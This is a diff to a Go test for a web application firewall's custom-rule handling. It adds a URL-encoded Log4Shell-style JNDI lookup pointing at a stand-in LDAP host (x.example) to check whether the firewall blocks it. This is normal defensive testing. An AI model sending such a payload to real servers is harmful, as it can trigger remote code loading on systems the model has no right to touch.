@@ -71,9 +71,10 @@ func TestCustomRulesJumpAndChangeLevels(t *testing.T) {
 	for name, rules := range map[string]string{"a jump": jump, "a level": mild} {
 		for _, stock := range []bool{false, true} {
 			e := made(t, Config{Paranoia: 1, Rules: rules, Stock: stock})
-			for path, want := range map[string]bool{"/raw?": false, "/other?": true} {
+			behind := "/raw?q=%24%7Bjndi:ldap://x.example/a%7D" // its rules stand behind what is jumped over
+			for target, want := range map[string]bool{"/raw?" + attack: false, "/other?" + attack: true, behind: name == "a jump"} {
 				tx := e.Begin("a")
-				tx.ProcessURI(path+attack, "GET", "HTTP/1.1")
+				tx.ProcessURI(target, "GET", "HTTP/1.1")
 				for _, h := range [][2]string{{"Host", "shop.example"}, {"User-Agent", "x"}, {"Accept", "*/*"}} {
 					tx.AddRequestHeader(h[0], h[1])
 				}
@@ -82,7 +83,7 @@ func TestCustomRulesJumpAndChangeLevels(t *testing.T) {
 					t.Fatal(err)
 				}
 				if got := tx.Refused() != nil; got != want {
-					t.Errorf("%s at %s, stock %v: refused %v", name, path, stock, got)
+					t.Errorf("%s at %s, stock %v: refused %v", name, target, stock, got)
 				}
 				_ = tx.Close()
 			}
